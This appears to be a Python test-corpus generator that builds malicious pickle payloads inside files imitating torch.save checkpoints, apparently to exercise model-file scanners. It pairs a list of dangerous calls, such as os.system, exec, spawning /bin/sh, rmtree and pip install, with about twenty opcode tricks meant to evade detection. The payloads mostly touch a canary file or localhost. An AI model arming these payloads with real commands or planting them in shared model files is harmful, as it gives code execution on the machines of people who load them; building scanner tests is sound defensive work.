"""Pickles that run something when Python reads them, inside files that look like torch.save's."""

import io
import zipfile

# What attackers call; scanners have missed many of these.
CALLS = [
    ("os", "system", "touch {canary}"),
    ("posix", "system", "touch {canary}"),
    ("nt", "system", "touch {canary}"),
    ("os", "popen", "touch {canary}"),
    ("os", "execl", "/bin/sh"),
    ("subprocess", "Popen", "touch {canary}"),
    ("subprocess", "check_output", "touch {canary}"),
    ("subprocess", "getoutput", "touch {canary}"),
    ("pty", "spawn", "/bin/sh"),
    ("builtins", "eval", "open('{canary}', 'w')"),
    ("builtins", "exec", "open('{canary}', 'w')"),
    ("builtins", "compile", "open('{canary}', 'w')"),
    ("builtins", "__import__", "os"),
    ("builtins", "open", "{canary}"),
    ("__builtin__", "eval", "open('{canary}', 'w')"),
    ("importlib", "import_module", "os"),
    ("runpy", "run_path", "{canary}.py"),
    ("code", "interact", "x"),
    ("timeit", "timeit", "open('{canary}', 'w')"),
    ("cProfile", "run", "open('{canary}', 'w')"),
    ("pdb", "run", "open('{canary}', 'w')"),
    ("doctest", "debug_script", "open('{canary}', 'w')"),
    ("pip", "main", "install"),
    ("pip._internal", "main", "install"),
    ("torch", "load", "{canary}.pt"),
    ("torch.jit", "load", "{canary}.pt"),
    ("torch.hub", "load", "{canary}"),
    ("torch.ops", "load_library", "{canary}.so"),
    ("ctypes", "CDLL", "{canary}.so"),
    ("shutil", "rmtree", "{canary}"),
    ("socket", "create_connection", "127.0.0.1"),
    ("urllib.request", "urlopen", "http://127.0.0.1/"),
    ("webbrowser", "open", "http://127.0.0.1/"),
    ("pickle", "loads", "cos\nsystem\n."),
    ("numpy", "load", "{canary}.npy"),
    ("asyncio.unix_events", "_UnixSubprocessTransport._start", "touch {canary}"),
]


def text(s: str) -> bytes:
    data = s.encode()
    return b"X" + len(data).to_bytes(4, "little") + data


def name(module: str, function: str) -> bytes:
    return f"c{module}\n{function}\n".encode()


def stack_name(module: str, function: str) -> bytes:
    return text(module) + text(function) + b"\x93"


STORAGE = b"(" + text("storage") + name("torch", "FloatStorage") + text("0") + text("cpu") + b"K\x01tQ"
TENSOR = name("torch._utils", "_rebuild_tensor_v2") + b"(" + STORAGE + b"K\x00K\x01\x85K\x01\x85\x89}tR"


def forms(module: str, function: str, argument: str) -> dict[str, bytes]:
    """Values that call the function, in the ways in which pickles can."""
    arguments = text(argument) + b"\x85"
    called = name(module, function) + arguments + b"R"
    by_getattr = name("builtins", "getattr") + stack_name("importlib", "import_module") + text(module) + b"\x85R"
    return {
        "root": called,
        "stack_global": stack_name(module, function) + arguments + b"R",
        "beside_a_tensor": b"}(" + text("w") + TENSOR + text("x") + called + b"u",
        "in_the_state_dict": b"}" + text("state_dict") + b"}(" + text("w") + TENSOR + text("x") + called + b"us",
        "as_a_key": b"}" + text("w") + TENSOR + b"s" + called + b"Ns",
        "by_memo": b"}" + text(module) + b"\x94" + text(function) + b"\x94sh\x00h\x01\x93" + arguments + b"R\x86",
        "newobj": name(module, function) + arguments + b"\x81",
        "build": called + b"}" + text("__setstate__") + name(module, function) + b"sb",
        "chain": by_getattr + text(function) + b"\x86R" + arguments + b"R",
        "result_called_again": called + arguments + b"R" + arguments + b"R",
        "appended_to": called + text("x") + b"a",
        "inst": b"(" + text(argument) + f"i{module}\n{function}\n".encode(),
        "obj": b"(" + name(module, function) + text(argument) + b"o",
        "ordered_dict_of": name("collections", "OrderedDict") + called + b"\x85R",
        "as_storage": b"}" + text("w") + TENSOR.replace(STORAGE, called) + b"s",
        "as_storage_type": b"}" + text("w") + TENSOR.replace(name("torch", "FloatStorage"), called) + b"s",
        "as_shape": b"}" + text("w") + TENSOR.replace(b"K\x01\x85K\x01\x85", called + called) + b"s",
        "as_persistent_id": called + b"Q",
        "as_parameter": name("torch._utils", "_rebuild_parameter") + b"(" + called + b"\x89}tR",
        "as_numpy_scalar": name("numpy.core.multiarray", "scalar") + called + called + b"\x86R",
        "in_codecs": name("_codecs", "encode") + called + text("latin1") + b"\x86R",
    }


def zip_file(pickle: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr("m/data.pkl", pickle)
        file.writestr("m/data/0", b"\0\0\0\0")
        file.writestr("m/version", "3\n")
    return out.getvalue()


def legacy_file(pickle: bytes) -> bytes:
    header = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02M\xe9\x03.\x80\x02}."
    return header + pickle + b"\x80\x02]" + text("0") + b"a." + (1).to_bytes(8, "little") + b"\0\0\0\0"


def payloads(canary: str) -> dict[str, bytes]:
    """Pickles by name, each for both layouts."""
    out = {}
    for module, function, argument in CALLS:
        for form, value in forms(module, function, argument.format(canary=canary)).items():
            out[f"{module}.{function}-{form}"] = b"\x80\x02" + value + b"."
    return out
